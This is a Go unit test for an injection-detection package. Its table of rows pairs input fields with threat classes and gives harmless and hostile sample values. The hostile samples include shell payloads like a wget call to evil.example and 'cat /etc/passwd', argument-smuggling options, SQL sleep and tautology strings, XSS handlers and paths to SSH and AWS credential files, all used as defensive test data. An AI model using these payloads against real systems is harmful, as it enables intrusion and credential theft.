package detect

import "testing"

// TestMended holds rules that values made by chance (made_test.go) showed to
// be missing or too wide: each row names what makes its values dangerous, or
// harmless.
func TestMended(t *testing.T) {
	for _, row := range []struct {
		why   string
		field Field
		class Class // None: must pass
		texts []string
	}{
		{"braces without names are no JSON", Unknown, Template, []string{"{{7+7}}", `{{""["__class__"]}}`, "{{ 21+21 }}"}},
		{"an object of Ruby in base64", Unknown, Deserialization, []string{"BAhvOhFIYXNoV2l0aERlZmF1bHQ=", "BAhvOitBY3RpdmVTdXBwb3J0"}},
		{"an element named like a class of the platform", Unknown, Deserialization, []string{"<map><entry><jdk.nashorn.internal.objects.NativeString>"}},
		{"a path of names to the class loader", Unknown, Code, []string{"class.module.classLoader.resources.context", "class.classLoader.URLs[0]"}},
		{"the prototype of all objects is set", Unknown, Prototype, []string{"Object.prototype.isAdmin=1"}},
		{"a text fed to the shell that reads it", Unknown, Command, []string{`;$0<<<"id"`, `&& $0<<<'ls -la'`}},
		{"an option that names a program", Identifier, Command, []string{"-oProxyCommand=touch /tmp/a", "--checkpoint-action=exec=sh a.sh", "--upload-pack=touch /tmp/a", "--use-compress-program=b"}},
		{"a value that is a substitution", Unknown, Command, []string{"`ps aux`", "`echo abc`"}},
		{"a member of the process between literals", Unknown, Code, []string{"'+process.env+'", "x\" + process.env.SECRET + \""}},
		{"a path handed on to another host", URL, Redirect, []string{"/login?next=//evil.example", "/r?a=1&to=//evil.example/x"}},
		{"another document", Unknown, XPath, []string{"doc('http://evil.example/')", `document("https://evil.example/a")`}},
		{"an element closed and opened again", Unknown, XML, []string{"x</item><role>admin</role><item>"}},
		{"a line of syslog", Name, Log, []string{"x\nOct 11 22:14:15 host sshd[1]: Accepted password for root"}},
		{"a share of a house", Unknown, None, []string{`\\server\share\report`, `\\nas\music\a.mp3`}},
		{"a share of elsewhere", Unknown, Traversal, []string{`\\evil.example\share\a.dll`, `\\203.0.113.9\c$\a.txt`}},
		{"where a person keeps a file", Filename, None, []string{"C:\\Users\\Anna\\Documents\\plan.docx", "/home/anna/plan.txt", "~/notes/plan.txt", "D:\\Games\\save.dat"}},
		{"what a person keeps hidden", Filename, Traversal, []string{"/home/anna/.ssh/id_rsa", "~/.aws/credentials", "C:\\Windows\\win.ini"}},
		{"words coupled by &", FreeText, None, []string{"cut & paste", "eat & sleep", "time && date"}},
		{"commands coupled by &", Unknown, Command, []string{"x & whoami", "& sleep 5", "a && cat /etc/passwd", "x&id"}},
		{"a program that the value names, of none that is known", Unknown, None, []string{"/usr/local/bin/lamp"}},
		{"an address in angle brackets", Unknown, None, []string{`<https://shop.example?page=8>; rel="next"`}},
		{"an address that is none", Unknown, XSS, []string{`<https://x onclick=alert(1)>`, `<http://"onload=alert(1)>`}},
		{"texts in quotes and nothing else", Search, None, []string{`"order notes" OR "garden"`, `"order lamp" and "value"`}},
		{"tags and lines in quotes", Unknown, None, []string{`"*", "9f86d081884c7d65"`, `"a","b c","d"`}},
		{"quotes that continue a condition", Search, SQL, []string{`" or "a"="a`, `"or 1=1--`, `" or "1`}},
		{"a number beside a word is no condition that holds", Unknown, None, []string{"1 or 2 = fine", "kill bill; uma"}},
		{"code that is shown", FreeText, None, []string{`echo "Hello, $USER"`, "`echo $HOME` prints /home/anna", "`ls -la` shows them"}},
		{"code that reaches out", FreeText, Command, []string{"`cat /etc/passwd`", "`wget http://evil.example/a`"}},
		{"a value that is a query", Search, SQL, []string{"(select(0)from(select(sleep(6)))v)", "(select 0 from users)"}},
	} {
		if row.class == None {
			passes(t, row.field, row.texts)
		} else {
			refuses(t, row.field, row.texts, row.class)
		}
	}
}
